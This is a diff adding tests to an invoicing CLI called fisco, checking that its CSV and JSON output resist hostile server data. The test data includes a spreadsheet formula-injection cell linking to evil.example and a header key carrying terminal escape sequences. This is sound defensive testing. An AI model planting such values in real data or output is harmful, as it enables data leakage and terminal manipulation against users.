@@ -124,3 +124,88 @@ describe('--all inside the rate limit', () => {
     expect(elapsed).toBeGreaterThanOrEqual(4000);
   }, 40_000);
 });
+
+/** Issue 22 (round two of hostile data): each test names its item (`#N`) for the reliability matrix. */
+describe('issue 22: hostile cells, keys and numbers in lists', () => {
+  let hh: Harness;
+  beforeAll(async () => {
+    hh = await harness();
+  });
+  afterAll(async () => hh.close());
+  const get = async (path: string): Promise<any> =>
+    (await fetch(`${hh.emulator.url}${path}`, { headers: { authorization: 'Bearer demo-prod-rossi' } })).json();
+  const inject = (path: string, raw: string) => hh.emulator.injectFault({ method: 'GET', path, times: 1, action: 'raw', raw });
+
+  it('#1 a bare line break in a cell stays inside its quoted cell, in -o csv and --csv-dialect it; no line starts a formula', async () => {
+    const page = await get('/clients?per_page=3');
+    page.data[0].name = 'Innocua S.r.l.\n=HYPERLINK("http://evil.example/?x","clic")';
+    for (const dialect of ['rfc', 'it']) {
+      inject('/clients', JSON.stringify(page));
+      const result = await hh.run(['clients', 'list', '--per-page', '3', '-o', 'csv', '--csv-dialect', dialect]);
+      expect(result.exitCode, result.stderr).toBe(0);
+      const rows = parse(result.stdout.replace(/^\uFEFF/, ''), { delimiter: dialect === 'it' ? ';' : ',' }) as string[][];
+      expect(rows).toHaveLength(4);
+      expect(rows[1]!.find((cell) => cell.startsWith('Innocua'))).toBe('Innocua S.r.l.\n\'=HYPERLINK("http://evil.example/?x","clic")');
+      for (const line of result.stdout.split(/\r\n|\n|\r/)) expect(line).not.toMatch(/^[=+\-@]/);
+    }
+  });
+
+  it('#2 keys of the service carrying ESC and BEL are escaped in the CSV header', async () => {
+    const page = await get('/clients?per_page=2');
+    page.data = page.data.map((c: Record<string, unknown>) => ({ ...c, 'evil\u001b]0;pwned\u0007': 'x' }));
+    inject('/clients', JSON.stringify(page));
+    const result = await hh.run(['clients', 'list', '--per-page', '2', '-o', 'csv']);
+    expect(result.exitCode, result.stderr).toBe(0);
+    const header = result.stdout.split('\r\n')[0]!;
+    expect(header).toContain('evil\\x1b]0;pwned\\x07');
+    expect(result.stdout).not.toMatch(/[\u0007\u001b]/);
+  });
+
+  it('#11 an integer beyond 2^53 comes out exactly in -o json, -o csv and `fisco api`', async () => {
+    const big = '9007199254740993123';
+    const page = await get('/clients?per_page=2');
+    const text = JSON.stringify(page).replace('"data":[{', `"data":[{"ledger_id":${big},`);
+    inject('/clients', text);
+    const json = await hh.run(['clients', 'list', '--per-page', '2', '-o', 'json']);
+    expect(json.exitCode, json.stderr).toBe(0);
+    expect(json.stdout).toContain(`"ledger_id":${big}`);
+    inject('/clients', text);
+    const csv = await hh.run(['clients', 'list', '--per-page', '2', '-o', 'csv']);
+    expect(csv.exitCode, csv.stderr).toBe(0);
+    expect(csv.stdout).toContain(big);
+    inject('/clients', text);
+    const api = await hh.run(['api', 'GET', '/clients', '-f', 'per_page=2']);
+    expect(api.exitCode, api.stderr).toBe(0);
+    expect(api.stdout).toContain(`"ledger_id": ${big}`);
+  });
+
+  it('#11 a big integer where fisco computes (an amount) is refused, exit 8 naming the field', async () => {
+    const page = await get('/v1/invoices?per_page=2');
+    inject('/v1/invoices', JSON.stringify(page).replace(/"total_amount":"?[\d.]+"?/, '"total_amount":90071992547409931'));
+    const result = await hh.run(['invoice', 'list', '--per-page', '2', '-o', 'json']);
+    expect(result.exitCode).toBe(8);
+    expect(result.stdout).toBe('');
+    expect(result.stderr).toMatch(/data\[0\]\.total_amount/);
+  });
+
+  it('#12 an amount with three decimals is refused, exit 8 naming the field, never rounded', async () => {
+    const page = await get('/v1/invoices?per_page=2');
+    inject('/v1/invoices', JSON.stringify(page).replace(/"total_amount":"?[\d.]+"?/, '"total_amount":100.125'));
+    const result = await hh.run(['invoice', 'list', '--per-page', '2', '-o', 'csv']);
+    expect(result.exitCode).toBe(8);
+    expect(result.stdout).toBe('');
+    expect(result.stderr).toMatch(/data\[0\]\.total_amount: the amount 100\.125 has more than two decimals; fisco does not round amounts/);
+    expect(result.stdout).not.toContain('100.13');
+  });
+
+  it('#15 `fisco api --paginate` keeps the per_page the user gave', async () => {
+    const sent = hh.emulator.store.requests.at(-1)?.seq ?? 0;
+    const result = await hh.run(['api', 'GET', '/v1/invoices', '-f', 'per_page=7', '--paginate', '-o', 'ndjson']);
+    expect(result.exitCode, result.stderr).toBe(0);
+    const asked = hh.emulator.store.requests.filter((r) => r.seq > sent && r.path === '/v1/invoices');
+    expect(asked.length).toBeGreaterThan(1);
+    for (const request of asked) expect(request.query.per_page).toBe('7');
+    const total = (await get('/v1/invoices?per_page=1')).meta.total;
+    expect(result.stdout.split('\n').filter(Boolean)).toHaveLength(total);
+  });
+});
